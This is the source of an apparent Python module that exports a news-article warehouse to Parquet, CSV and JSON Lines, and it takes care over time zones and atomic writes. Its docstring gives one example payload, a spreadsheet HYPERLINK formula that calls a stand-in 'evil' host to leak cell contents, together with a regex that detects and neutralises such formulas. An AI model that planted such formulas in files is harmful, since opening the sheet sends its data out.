"""Export the articles to files other tools read: Parquet partitioned by date, CSV, JSON Lines.

DuckDB's COPY writes the files from a read-only connection, so an export can run while no run
is writing and never changes the warehouse. Only `articles` is exported (every column, the text
included, plus a `date` column); the other tables are one `newsflow query` away.

- parquet: `DIR/articles/date=YYYY-MM-DD/data_0.parquet`, hive-style, one folder per date. An
  export rewrites the date folders it covers and leaves the others, so `--since` refreshes the
  recent days of an earlier export.
- csv: `DIR/articles.csv`, with a header row. jsonl: `DIR/articles.jsonl`, one object a line.
  Both are replaced by each export. In the CSV, a text value a spreadsheet would run as a formula
  (it begins with `=`, `+`, `-`, `@`, a tab or a CR, and is not a number) gets a leading `'`, as
  OWASP advises: a title `=HYPERLINK("http://evil/?"&A1, "click")` opened in Excel or LibreOffice
  would send the sheet's cells away. JSON Lines and Parquet keep every text as it is stored.

`date` is the date of `published_at`, else of `fetched_at`, in the export's zone (`tz`, UTC unless given:
`newsflow export --tz`, "Analyst 53"); `since` keeps dates on or after it. CSV and JSON write timestamps with
that zone's offset; Parquet stores instants. A Parquet export records its zone in `DIR/.articles.zone` (beside the
date folders, not among them: a reader of `articles/**` would take it for data), and one in another zone there is
refused: it would rewrite only the dates it covers, and an article near
midnight would sit in both zones' date folders (a folder without the file was exported in UTC). Two names of UTC
(`UTC`, `Etc/UTC`, `GMT`, `Zulu`: a tz database file that is Etc/UTC's or Etc/GMT's) are one zone. The zone file is
written (to a temporary file, renamed over it) before any date folder moves: a write that fails leaves the earlier
export as it was, and one killed midway leaves no folder dated in a zone the file does not name. A zone file that is
not UTF-8 text is refused in one line (exit 2).
"""

from __future__ import annotations

import os
import re
import shutil
import zoneinfo
from dataclasses import dataclass
from datetime import date
from importlib import resources
from pathlib import Path
from typing import TYPE_CHECKING, Literal

import duckdb

from newsflow.errors import InputError, OutputError
from newsflow.files import is_special_file

if TYPE_CHECKING:
    from newsflow.warehouse import Warehouse

ExportFormat = Literal["parquet", "csv", "jsonl"]
EXPORT_FORMATS: tuple[ExportFormat, ...] = ("parquet", "csv", "jsonl")

_DATE = "CAST(coalesce(published_at, fetched_at) AT TIME ZONE $tz AS DATE)"
ZONE_FILE = ".articles.zone"
"""Beside a Parquet export's `articles` folder: the zone of its dates."""
_SELECT = f"SELECT *, {_DATE} AS date FROM articles WHERE $since IS NULL OR {_DATE} >= $since ORDER BY date, article_id"
# A text cell a spreadsheet reads as a formula: it begins with one of these and is not a number.
FORMULA_START = r"^[=+\-@\t\r]"
_OPTIONS: dict[ExportFormat, str] = {
    "parquet": "FORMAT parquet, PARTITION_BY (date), OVERWRITE_OR_IGNORE",
    "csv": "FORMAT csv, HEADER",
    "jsonl": "FORMAT json",
}


@dataclass(frozen=True)
class ExportSummary:
    fmt: ExportFormat
    target: Path  # the folder (parquet) or the file written
    rows: int
    files: tuple[Path, ...]


def export_articles(
    warehouse: Warehouse, out_dir: Path, fmt: ExportFormat, since: date | None = None, tz: str = "UTC"
) -> ExportSummary:
    """Write the articles (dated `since` or later in `tz`, a zone as DuckDB spells it) to `out_dir` in `fmt`;
    returns what was written."""
    if fmt not in EXPORT_FORMATS:
        raise ValueError(f"unknown export format {fmt!r}; expected one of {', '.join(EXPORT_FORMATS)}")
    target = out_dir / ("articles" if fmt == "parquet" else f"articles.{fmt}")
    _prepare_folder(out_dir, target, fmt)
    if fmt == "parquet":
        _check_zone(target, tz)
    # DuckDB writes a CSV or JSON file beside its target and renames it; Parquet partitions it writes in
    # place, so a full disk cut the previous export's files short: they go to a fresh folder first.
    written = out_dir / f".articles.partial-{os.getpid()}" if fmt == "parquet" else target
    with warehouse.reading() as con:
        con.execute(f"SET TimeZone = {_sql_literal(tz)}")  # session only: CSV's and JSON's timestamps are tz's
        try:
            select = _spreadsheet_safe_select(con) if fmt == "csv" else _SELECT
            rows = con.execute(
                f"COPY ({select}) TO {_sql_string(written)} ({_OPTIONS[fmt]})", {"since": since, "tz": tz}
            ).fetchall()
        except duckdb.Error as exc:
            if written != target:
                shutil.rmtree(written, ignore_errors=True)
            raise OutputError(f"export to {target} failed: {' '.join(str(exc).split())}; an earlier export there "
                              "is left as it was") from exc
    if written != target:
        _record_zone(out_dir, written, target, tz)
        _move_partitions(written, target)
    files = tuple(sorted(target.rglob("*.parquet"))) if fmt == "parquet" else (target,)
    return ExportSummary(fmt, target, int(rows[0][0]) if rows else 0, files)


def _move_partitions(written: Path, target: Path) -> None:
    """Each date folder written replaces the target's, by renames; the other dates are left."""
    target.mkdir(exist_ok=True)
    for partition in sorted(written.iterdir()):
        old = target / partition.name
        if old.exists():
            aside = written.with_name(f"{written.name}.old")
            old.rename(aside)
            partition.rename(old)
            shutil.rmtree(aside)
        else:
            partition.rename(old)
    written.rmdir()


def _record_zone(out_dir: Path, written: Path, target: Path, tz: str) -> None:
    """The zone in `DIR/.articles.zone` before a date folder moves (review of "Analyst 53": recorded after the move, a
    failed write left Tokyo's folders read as UTC's). It names the zone the folders are in: the earlier export's,
    which `_check_zone` made `tz`, or none. A failure leaves the earlier export whole and removes what was written."""
    partial = out_dir / f"{ZONE_FILE}.partial-{os.getpid()}"
    try:
        partial.write_text(tz + "\n", encoding="utf-8")
        os.replace(partial, out_dir / ZONE_FILE)
    except OSError as exc:
        partial.unlink(missing_ok=True)
        shutil.rmtree(written, ignore_errors=True)
        raise OutputError(f"export to {target} failed: cannot write {out_dir / ZONE_FILE} (the zone of its dates, "
                          f"{tz}): {exc.strerror}; an earlier export there is left as it was") from exc


def _check_zone(target: Path, tz: str) -> None:
    """InputError (exit 2) when the Parquet export in `target` has its dates in another zone than `tz`."""
    if not target.is_dir():
        return
    zone_file = target.parent / ZONE_FILE
    try:
        earlier = zone_file.read_text(encoding="utf-8").strip() if zone_file.is_file() else "UTC"
    except UnicodeDecodeError:
        raise InputError(f"export: {zone_file} is not a zone name (not UTF-8 text); write into it the --tz that "
                         f"{target} was exported with, or delete that folder and the file first") from None
    if not same_zone(earlier, tz):
        raise InputError(f"export: the export in {target} has its dates in {earlier}, and one in {tz} would put an "
                         f"article near midnight in two date folders; give --tz {earlier}, or another DIR, or "
                         "delete that folder first")


def same_zone(one: str, other: str) -> bool:
    """Whether two zone names give every instant one date: one name in any case, or both UTC (below)."""
    return one.lower() == other.lower() or (is_utc(one) and is_utc(other))


_UTC_FILES = ("Etc/UTC", "Etc/GMT")  # offset 0 at every instant; their links: UTC, Zulu, Universal, GMT, Greenwich...
_ZONE_NAME = re.compile(r"[A-Za-z0-9_+-]+(?:/[A-Za-z0-9_+-]+)*")  # no `..`: the name is read from a file


def is_utc(name: str) -> bool:
    """Whether the tz database's zone `name` is UTC: its file is Etc/UTC's or Etc/GMT's (a link to one of them).
    Only these two: other links are not proved one zone, since DuckDB's ICU and Python's tz database differ on some
    before 1970 (tzdata 2022's merged zones)."""
    if name.upper() == "UTC":
        return True
    data = _zone_file(name)
    return data is not None and data in {_zone_file(utc) for utc in _UTC_FILES}


def _zone_file(name: str) -> bytes | None:
    """The tz database's file for `name`, where Python's zoneinfo reads it (its TZPATH, else the tzdata package)."""
    if not _ZONE_NAME.fullmatch(name):
        return None
    for root in zoneinfo.TZPATH:
        if (path := Path(root, name)).is_file():
            return path.read_bytes()
    try:
        return resources.files("tzdata.zoneinfo").joinpath(*name.split("/")).read_bytes()
    except (ModuleNotFoundError, OSError):
        return None


def _spreadsheet_safe_select(con: duckdb.DuckDBPyConnection) -> str:
    """`_SELECT` with each text column defused: a formula-like value gets a leading `'` (see above)."""
    names = [row[0] for row in con.execute(
        "SELECT column_name FROM duckdb_columns() WHERE table_name = 'articles' AND schema_name = 'main' "
        "AND data_type = 'VARCHAR' ORDER BY column_index").fetchall()]
    quoted = ['"' + name.replace('"', '""') + '"' for name in names]
    defused = ", ".join(f"CASE WHEN regexp_matches({q}, '{FORMULA_START}') AND TRY_CAST({q} AS DOUBLE) IS NULL "
                        f"THEN chr(39) || {q} ELSE {q} END AS {q}" for q in quoted)
    return _SELECT.replace("SELECT *,", f"SELECT * REPLACE ({defused}),", 1) if names else _SELECT


def _prepare_folder(out_dir: Path, target: Path, fmt: ExportFormat) -> None:
    """InputError (exit 2) when DIR or the target is the wrong kind of thing; the folder exists after."""
    if out_dir.exists() and not out_dir.is_dir():
        raise InputError(f"export: {out_dir} is a file, not a folder; give a folder to write into")
    if target.exists() and target.is_dir() != (fmt == "parquet"):
        kind = "a folder" if target.is_dir() else "a file"
        raise InputError(f"export: {target} is {kind} in the way of the {fmt} export; move it or pick another DIR")
    if special := _special_file(target):  # COPY would open it and wait for a reader for ever
        raise InputError(f"export: {special} is not a regular file (a FIFO, socket or device) in the way of "
                         f"the {fmt} export; move it or pick another DIR")
    try:
        out_dir.mkdir(parents=True, exist_ok=True)
    except OSError as exc:
        raise InputError(f"export: cannot create the folder {out_dir}: {exc.strerror}") from exc


def _special_file(target: Path) -> Path | None:
    """The first path the export would open that is neither a folder nor a regular file."""
    candidates = [target, *target.rglob("*")] if target.is_dir() else [target]
    for path in candidates:
        if is_special_file(path):
            return path
    return None


def _sql_string(path: Path) -> str:
    # COPY takes its target as a literal, not a parameter.
    return _sql_literal(str(path.resolve()))


def _sql_literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"
